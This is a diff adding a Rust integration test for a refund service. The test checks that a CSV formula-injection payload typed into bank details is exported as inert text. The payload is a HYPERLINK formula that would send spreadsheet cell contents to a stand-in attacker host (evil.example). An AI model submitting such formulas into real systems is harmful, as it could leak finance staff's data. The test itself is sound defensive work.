@@ -391,3 +391,63 @@ async fn text_fields_are_bounded_and_free_of_control_characters() {
     assert_eq!(contact["email"]["maxLength"], 254, "{contact}");
     app.stop().await;
 }
+
+/// Bank details a customer typed as a spreadsheet formula reach the finance team's CSV as
+/// text: the cell starts with `'`, never with `=`. The API's JSON keeps them as given.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_formula_in_bank_details_is_text_in_the_csv_export() {
+    let app = TestApp::spawn().await;
+    let payment = payment_of(&app, "tx-csv", "450.00").await;
+    let r = apply(&app, &payment, json!({"access_started_at": "2026-03-02"})).await;
+    let id = r.json::<Value>().await.unwrap()["id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    set_state(&app, &id, "needs_bank_details").await;
+    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"LV80BANK0000435195001")"#;
+    let r = as_role(
+        &app,
+        client()
+            .post(app.url(&format!("/v1/refund-requests/{id}/bank-details")))
+            .json(&json!({"bank_details": formula, "account_holder": "@Ivan"})),
+        ApiRole::Support,
+    )
+    .send()
+    .await
+    .unwrap();
+    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
+    sqlx::query(
+        "UPDATE refund_requests SET amount_minor = 45000, currency = 'BYN' WHERE id = $1::uuid",
+    )
+    .bind(&id)
+    .execute(&app.db.pool)
+    .await
+    .unwrap();
+    let out = std::process::Command::new(e2e::refundd_bin())
+        .args(["payouts", "export", "--format", "csv"])
+        .env_clear()
+        .env("PATH", std::env::var("PATH").unwrap_or_default())
+        .env("DATABASE_URL", &app.db.url)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let csv = String::from_utf8(out.stdout).unwrap();
+    let line = csv.lines().nth(1).expect("one payout");
+    assert!(line.contains(&id), "{csv}");
+    assert!(
+        line.contains(r#""'=HYPERLINK(""http://evil.example/?d=""&A1,""LV80BANK0000435195001"")""#),
+        "the formula is quoted text: {line}"
+    );
+    assert!(line.contains(",'@Ivan,"), "{line}");
+    assert!(
+        !line
+            .split(',')
+            .any(|cell| cell.starts_with(['=', '+', '-', '@'])),
+        "{line}"
+    );
+    app.stop().await;
+}
